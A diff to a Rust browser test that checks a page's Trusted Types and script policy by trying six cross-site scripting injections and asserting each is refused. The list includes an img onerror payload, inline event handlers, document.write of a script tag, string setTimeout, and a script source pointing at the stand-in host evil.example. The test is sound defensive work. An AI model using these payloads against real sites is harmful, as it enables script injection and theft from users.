@@ -3,7 +3,7 @@
 use serde_json::json;
 
 use crate::{
-    browser::Browser,
+    page::browser::Browser,
     support::{
         listening::Listening,
         process::SECRET,
@@ -87,21 +87,23 @@ fn no_script_runs_from_an_event() {
 fn the_policy_stops_a_script_that_got_into_the_page() {
     let listening = Listening::start(&[]);
     let mut browser = Browser::open(&listening.page, 1280, false);
-    // As if a later change wrote text as HTML.
-    let written = browser.value(
-        "(() => { try { document.body.innerHTML = '<img src=x onerror=\"window.ran=1\">'; return 'written' } \
-         catch { return 'refused' } })()",
-    );
-    assert_eq!(written, "refused", "Trusted Types allow no HTML from text");
-    let run = browser.value(
-        "new Promise((done) => { const s = document.createElement('img'); \
-         s.setAttribute('onerror', 'window.ran=1'); s.src = '/nothing'; \
-         s.addEventListener('error', () => setTimeout(() => done(window.ran ?? null))); \
-         document.body.append(s) })",
-    );
-    assert_eq!(run, json!(null), "no inline handler runs");
+    // As if a later change wrote text as HTML or as script.
+    for attempt in [
+        "document.body.innerHTML = '<img src=x onerror=\"window.ran=1\">'",
+        "document.body.setAttribute('onclick', 'window.ran=1'), document.body.click()",
+        "document.createElement('script').src = '//evil.example/x.js'",
+        "document.createElement('script').textContent = 'window.ran=1'",
+        "document.write('<script>window.ran=1</script>')",
+        "setTimeout('window.ran=1')",
+    ] {
+        let expression = format!(
+            "(() => {{ try {{ {attempt}; return 'done' }} catch {{ return 'refused' }} }})()"
+        );
+        assert_eq!(browser.value(&expression), "refused", "{attempt}");
+    }
+    assert_eq!(browser.value("window.ran ?? null"), json!(null));
     assert!(
         !browser.reports.is_empty(),
-        "the browser reports the violation"
+        "the browser reports the violations"
     );
 }
